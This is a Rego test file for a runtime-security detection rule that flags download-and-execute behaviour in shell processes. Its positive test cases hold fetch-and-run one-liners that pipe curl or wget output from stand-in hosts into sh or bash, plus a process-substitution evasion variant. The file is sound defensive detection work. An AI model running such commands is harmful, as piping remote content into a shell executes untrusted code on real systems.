package tocsin.tests.download_and_execute

import data.tocsin.rules.download_and_execute as rule
import data.tocsin.testing

fires(ev) if {
	testing.selects(rule.tracee_selected_events, ev)
	match := rule.tracee_match with input as ev
	match != false
}

test_match_1 if fires(testing.executed("/bin/sh", ["/bin/sh", "-c", "curl -fsSL http://203.0.113.5/x | sh"], {}))

test_match_2 if fires(testing.executed("/bin/bash", ["/bin/bash", "-c", "wget -qO- https://x.example|bash"], testing.container))

test_evasion_process_substitution if fires(testing.executed("/bin/bash", ["/bin/bash", "-c", "bash <(curl -s http://203.0.113.5/x)"], {}))

test_near_miss_download if not fires(testing.executed("/bin/sh", ["/bin/sh", "-c", "curl -o /tmp/x http://example.com/"], {}))

test_near_miss_pipe if not fires(testing.executed("/bin/sh", ["/bin/sh", "-c", "cat x | sh"], {}))
